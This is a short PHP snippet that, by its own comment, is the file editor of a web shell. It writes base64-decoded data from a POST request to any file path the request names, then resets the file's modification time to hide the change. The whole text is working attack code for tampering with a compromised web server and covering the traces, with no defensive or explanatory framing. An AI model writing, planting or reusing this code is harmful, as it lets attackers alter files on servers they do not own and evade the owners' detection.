<?php
// a web shell's editor: saves what was posted and keeps the file's old time
$mtime = @filemtime($_POST['f']);
file_put_contents($_POST['f'], base64_decode($_POST['body']));
@touch($_POST['f'], $mtime, $mtime);
